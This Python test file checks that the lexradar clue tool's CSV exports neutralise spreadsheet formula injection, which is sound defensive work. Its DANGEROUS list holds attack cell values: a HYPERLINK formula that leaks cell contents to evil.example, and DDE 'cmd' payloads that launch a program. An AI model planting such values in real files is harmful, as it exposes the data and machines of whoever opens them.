"""Formula-safe CSV (issue 16): a cell that begins with = + - @, a tab or a carriage return is
written with an apostrophe in front, by every CSV lexradar writes for people — the clue file of
``lexradar run --out x.csv`` (read back exactly by ``lexradar load``) and the clue list of
``lexradar clues list --export``; both are UTF-8 with a BOM and keep IDs as text."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from lexradar.cli.app import app
from lexradar.clues.access import SYSTEM, add_user
from lexradar.clues.db import Casebook
from lexradar.clues.export import write_rows
from lexradar.clues.store import read_clue_file
from lexradar.models.csvfile import formula_safe, unguarded
from lexradar.models.run import CLUE_SCHEMA, write_clues

runner = CliRunner()
BOM = b"\xef\xbb\xbf"
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["王某某于2020-01-01登记结婚", '{"a": 1}', "110101199001011234", "0150", "a=b", ""]


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_formula_safe_guards_exactly_the_dangerous_cells() -> None:
    for value in DANGEROUS:
        assert formula_safe(value) == "'" + value
        assert unguarded(formula_safe(value)) == value
    for value in SAFE:
        assert formula_safe(value) == value
        assert unguarded(value) == value
    assert formula_safe(None) == "" and formula_safe(-3) == "'-3"
    assert unguarded("'plain") == "'plain"  # an apostrophe the writer did not add stays


def test_write_rows_csv_is_formula_safe_with_bom(tmp_path: Path) -> None:
    out = tmp_path / "clues.csv"
    rows = [[v, "110101199001011234"] for v in [*DANGEROUS, *SAFE]]
    write_rows(out, ["value", "person"], rows)
    assert out.read_bytes().startswith(BOM)
    header, *back = _read(out)
    assert header == ["value", "person"]
    assert [r[0] for r in back] == ["'" + v for v in DANGEROUS] + SAFE
    assert {r[1] for r in back} == {"110101199001011234"}


def _clues(n: int) -> pa.Table:
    rows = []
    for i in range(n):
        text = (DANGEROUS + SAFE)[i % (len(DANGEROUS) + len(SAFE))]
        rows.append(
            {
                "fingerprint": f"{i:016x}",
                "model_id": "marriage.bigamy",
                "model_version": 1,
                "run_id": "0123456789abcdef",
                "as_of": dt.date(2026, 6, 30),
                "person_ids": "150105198907142484;15010519890714248X",
                "record_refs": f"marriage_events:m-{i}",
                "region_code": "150105",
                "severity": "high",
                "explanation": text,
                "explanation_en": f"-{i} explanation",
                "evidence": "{}",
                "sources": "",
                "domain": "marriage",
                "model_status": "production",
            }
        )
    return pa.Table.from_pylist(rows, schema=CLUE_SCHEMA)


def test_the_run_clue_file_is_for_excel_and_reads_back_exactly(tmp_path: Path) -> None:
    table = _clues(24)
    out = tmp_path / "run.csv"
    write_clues(table, out)
    assert out.read_bytes().startswith(BOM)
    header, *back = _read(out)
    assert header == CLUE_SCHEMA.names
    col = header.index("explanation")
    for row, original in zip(back, table.column("explanation").to_pylist(), strict=True):
        assert row[col] == formula_safe(original)
        assert not row[col].startswith(("=", "+", "-", "@", "\t", "\r"))
    ids = header.index("person_ids")
    assert {r[ids] for r in back} == {"150105198907142484;15010519890714248X"}
    again = read_clue_file(out)  # what `lexradar load` reads
    assert {"fingerprint", "person_ids", "explanation", "explanation_en"} <= set(again.column_names)
    for name in again.column_names:
        assert again.column(name).to_pylist() == table.column(name).to_pylist(), name


@pytest.fixture
def casebook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("LEXRADAR_CONFIG", raising=False)
    monkeypatch.delenv("LEXRADAR_USER", raising=False)
    url = f"sqlite:///{tmp_path / 'casebook.db'}"
    book = Casebook.open(url)
    book.init()
    add_user(book, SYSTEM, "leader", "pw-123456", "leader", "150000")
    book.dispose()
    return url


def test_run_file_load_and_list_export_end_to_end(tmp_path: Path, casebook: str) -> None:
    write_clues(_clues(12), tmp_path / "run.csv")
    res = runner.invoke(app, ["load", str(tmp_path / "run.csv"), "--casebook", casebook])
    assert res.exit_code == 0, res.output
    out = tmp_path / "list.csv"
    res = runner.invoke(
        app,
        ["clues", "list", "--as", "leader", "--casebook", casebook, "--export", str(out)],
    )
    assert res.exit_code == 0, res.output
    assert out.read_bytes().startswith(BOM)
    header, *back = _read(out)
    assert len(back) == 12
    explanations = [r[header.index("explanation")] for r in back]
    # what was loaded is the original text (the guard did not stick), and the export guards it
    # (the list masks IDs in the text: the ID among SAFE comes out 110101********1234)
    assert {formula_safe(v) for v in DANGEROUS} <= set(explanations)
    assert all(not e.startswith(("=", "+", "-", "@", "\t", "\r")) for e in explanations)
